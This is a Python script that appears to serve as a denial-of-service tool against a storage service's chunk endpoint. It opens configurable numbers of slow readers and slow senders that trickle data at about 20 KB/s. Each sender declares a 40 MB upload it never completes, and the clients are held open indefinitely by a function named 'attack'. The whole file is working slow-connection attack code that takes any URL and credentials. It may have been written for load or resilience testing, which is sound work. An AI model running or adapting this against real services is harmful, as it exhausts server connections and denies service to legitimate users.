"""Clients that read or send a chunk at 20 KB per second. Containers run it with the standard library only.

`python slow_clients.py URL USER KEY CHUNK READERS SENDERS` keeps so many connected, and prints their number.
"""

import asyncio
import random
import sys
from dataclasses import dataclass
from urllib.parse import urlsplit

COLUMN_BYTES = 40_000_000
SPEED = 20_000  # bytes per second
PAUSE = 0.5  # seconds between two pieces


@dataclass(frozen=True)
class SlowClients:
    """Slow clients of one cloud; without a key, of one without accounts."""

    url: str
    user: str
    key: str
    chunk: str

    async def open_reader(self) -> tuple[asyncio.StreamWriter, "asyncio.Task[None]"]:
        """Request the chunk, and read it slowly."""
        reader, writer = await self._connect("GET", "")
        return writer, asyncio.ensure_future(_read_slowly(reader))

    async def open_sender(self) -> tuple[asyncio.StreamWriter, "asyncio.Task[None]"]:
        """Send the chunk slowly."""
        _, writer = await self._connect("PUT", f"Content-Length: {COLUMN_BYTES}\r\n")
        return writer, asyncio.ensure_future(_send_slowly(writer))

    async def _connect(self, method: str, headers: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        address = urlsplit(self.url)
        reader, writer = await asyncio.open_connection(address.hostname, address.port, limit=1 << 14)
        if self.key:
            headers += f"Authorization: Bearer {self.key}\r\n"
        path = f"/{self.user}/data/chunks/{self.chunk}"
        writer.write(f"{method} {path} HTTP/1.1\r\nHost: {address.netloc}\r\n{headers}\r\n".encode())
        return reader, writer


async def _read_slowly(reader: asyncio.StreamReader) -> None:
    await asyncio.sleep(random.random() * PAUSE)  # so that they do not act all at once
    while await reader.read(int(SPEED * PAUSE)):
        await asyncio.sleep(PAUSE)


async def _send_slowly(writer: asyncio.StreamWriter) -> None:
    await asyncio.sleep(random.random() * PAUSE)
    while not writer.is_closing():
        writer.write(bytes(int(SPEED * PAUSE)))
        await asyncio.sleep(PAUSE)


async def attack(clients: SlowClients, readers: int, senders: int) -> None:
    """Keep clients connected until the process is killed; print how many are still."""
    opened = [await clients.open_reader() for _ in range(readers)]
    opened += [await clients.open_sender() for _ in range(senders)]
    while True:
        print(sum(not task.done() for _, task in opened), flush=True)
        await asyncio.sleep(2)


if __name__ == "__main__":
    asyncio.run(attack(SlowClients(*sys.argv[1:5]), int(sys.argv[5]), int(sys.argv[6])))
